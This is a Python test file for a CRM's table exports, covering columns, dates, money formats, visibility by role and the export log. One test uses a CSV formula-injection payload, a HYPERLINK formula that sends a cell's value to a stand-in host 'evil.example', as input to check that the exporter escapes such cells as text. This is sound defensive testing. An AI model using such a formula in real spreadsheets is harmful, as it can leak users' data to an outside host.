"""Exports through the CRM core: columns, dates as dates, money as numbers, visibility, log."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta

import openpyxl
from sqlalchemy import select

from bot.app import App
from crm.client_filter import ClientFilter
from crm.clock import ManualClock
from crm.exports.files import Column, Format, Kind, TableFile
from crm.imports.mapping import propose
from crm.imports.reading import read_table
from crm.imports.rows import RowDraft, build_row
from crm.service import Crm
from storage.models import ExportLog, User
from tests.client_helpers import make_client
from tests.conftest import OWNER_ID, Joiner

MANAGER = 200_003


async def actor(crm: Crm, user_id: int = OWNER_ID) -> User:
    found = await crm.members.get_active(user_id)
    assert found is not None
    return found


async def seed(app: App, join: Joiner, clock: ManualClock) -> None:
    await join(MANAGER, "manager", "Пётр")
    ivan = await make_client(
        app, OWNER_ID, "Иван Петров", phones=("+79161234567",), company="Ромашка", city="Тула"
    )
    await make_client(app, MANAGER, "Свой клиент", emails=("own@x.ru",))
    async with app.crm.open() as crm:
        owner = await actor(crm)
        deal = await crm.deals.create(owner, ivan.id, 15_050_000, "Поставка")
        await crm.tasks.create(owner, "Позвонить", clock.now() + timedelta(days=1), deal_id=deal.id)


async def test_clients_to_xlsx_read_back(app: App, join: Joiner, clock: ManualClock) -> None:
    await seed(app, join, clock)
    async with app.crm.open() as crm:
        owner = await actor(crm)
        file = await crm.exports.clients(
            owner, ClientFilter(city="Тула"), Format.XLSX, titles={"name": "ФИО"}
        )
    assert file.rows == 1 and file.name.endswith(".xlsx")
    book = openpyxl.load_workbook(io.BytesIO(file.data))
    sheet = book.active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[0][:4] == ("ID", "ФИО", "Phones", "Emails")
    assert rows[1][1:6] == ("Иван Петров", "+79161234567", None, "Ромашка", "Тула")
    assert isinstance(rows[1][11], datetime)  # created, as a date cell
    assert sheet.freeze_panes == "A2"
    assert sheet.auto_filter.ref == "A1:N2"


async def test_phones_and_emails_go_out_in_the_cards_order(app: App) -> None:
    """The first is the main one, as the card shows it (they went out sorted)."""
    await make_client(
        app,
        OWNER_ID,
        "Олег",
        phones=("+79990000002", "+79990000001"),
        emails=("z@x.ru", "a@x.ru"),
    )
    async with app.crm.open() as crm:
        file = await crm.exports.clients(await actor(crm), ClientFilter(), Format.XLSX)
    sheet = openpyxl.load_workbook(io.BytesIO(file.data)).active
    assert sheet is not None
    [_titles, row] = list(sheet.iter_rows(values_only=True))
    assert row[2:4] == ("+79990000002, +79990000001", "z@x.ru, a@x.ru")


async def test_a_manager_exports_only_what_they_see(
    app: App, join: Joiner, clock: ManualClock
) -> None:
    await seed(app, join, clock)
    async with app.crm.open() as crm:
        manager = await actor(crm, MANAGER)
        file = await crm.exports.clients(manager, ClientFilter(), Format.CSV)
        deals = await crm.exports.deals(manager, Format.CSV)
        tasks = await crm.exports.tasks(manager, Format.CSV)
        log = list(await crm.imports._session.scalars(select(ExportLog).order_by(ExportLog.id)))
    assert file.data.startswith(b"\xef\xbb\xbf")
    table = read_table(file.data)
    assert [row[1] for row in table.rows] == ["Свой клиент"]
    assert table.rows[0][3] == "own@x.ru"
    assert (deals.rows, tasks.rows) == (0, 0)
    assert [(e.what, e.rows, e.actor_id, e.file_format) for e in log] == [
        ("clients", 1, MANAGER, "csv"),
        ("deals", 0, MANAGER, "csv"),
        ("tasks", 0, MANAGER, "csv"),
    ]


async def test_deals_and_tasks_money_and_dates(app: App, join: Joiner, clock: ManualClock) -> None:
    await seed(app, join, clock)
    async with app.crm.open() as crm:
        owner = await actor(crm)
        deals = await crm.exports.deals(owner, Format.XLSX, stage_labels={"lead": "Новый лид"})
        tasks = await crm.exports.tasks(owner, Format.CSV)
    sheet = openpyxl.load_workbook(io.BytesIO(deals.data)).active
    assert sheet is not None
    rows = list(sheet.iter_rows(values_only=True))
    assert rows[1][1:6] == ("Поставка", "Иван Петров", "Новый лид", 150500.0, "RUB")
    assert sheet.cell(2, 5).number_format == "#,##0.00"
    text = tasks.data.decode("utf-8-sig").splitlines()
    assert text[0].split(";")[:3] == ["Task ID", "Task", "Due"]
    assert text[1].split(";")[1:3] == ["Позвонить", "03.03.2026 12:00"]
    assert text[1].split(";")[6] == "Поставка"


async def test_csv_cells_a_spreadsheet_would_run_go_out_as_text(app: App) -> None:
    """Excel runs a CSV cell starting with = + - @ as a formula: such text goes out after a ',
    which Excel shows as text and the import reads back as it was."""
    name = '=HYPERLINK("http://evil.example/?"&A1;"Открыть")'
    await make_client(app, OWNER_ID, name, phones=("+79161234567",), company="@SUM(1+1)")
    async with app.crm.open() as crm:
        file = await crm.exports.clients(await actor(crm), ClientFilter(), Format.CSV)
    rows = list(csv.reader(io.StringIO(file.data.decode("utf-8-sig")), delimiter=";"))
    assert [cell for cell in rows[1] if cell[:1] in ("=", "@")] == []
    # a phone is no formula: it goes out as it is (a quote would show in the cell)
    assert rows[1][1:5] == ["'" + name, "+79161234567", "", "'@SUM(1+1)"]
    table = read_table(file.data, "clients.csv")
    draft = build_row(2, table.rows[0], propose(table.headers), "RU")
    assert isinstance(draft, RowDraft)
    assert (draft.name, draft.phones, draft.company) == (name, ["+79161234567"], "@SUM(1+1)")


def test_a_csv_header_a_spreadsheet_would_run_goes_out_as_text() -> None:
    """A column's title is a team's own field name, as free as any cell."""
    file = TableFile([Column("a", "=1+1"), Column("b", "-Скидка", Kind.NUMBER)], Format.CSV, UTC)
    file.write([["\tтекст", -5]])
    lines = file.finish().decode("utf-8-sig").splitlines()
    assert lines == ["'=1+1;'-Скидка", "'\tтекст;-5"]
